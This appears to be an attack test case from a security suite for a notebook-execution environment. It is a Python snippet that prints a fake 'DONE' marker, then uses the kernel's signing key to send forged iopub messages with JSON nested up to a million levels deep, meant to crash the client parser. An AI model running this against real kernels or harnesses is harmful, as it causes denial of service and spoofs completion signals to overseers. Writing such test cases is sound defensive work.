# /// attack
# exercise = "gradient-argument"
# defended-by = ["design"]
# costs = true
# ///

# %% name="question"
import json

from IPython import get_ipython

print("DONE", flush=True)
kernel = get_ipython().kernel
parent = kernel.get_parent("shell")["header"]
header = kernel.session.msg_header("display_data")
for depth in (500, 50_000, 1_000_000):
    deep = b'{"data": {"text/plain": ' + b"[" * depth + b"]" * depth + b"}}"
    parts = [json.dumps(part, default=str).encode() for part in (header, parent, {})] + [deep]
    signature = kernel.session.sign(parts)
    kernel.iopub_thread.socket.send_multipart([b"x", b"<IDS|MSG>", signature, *parts])
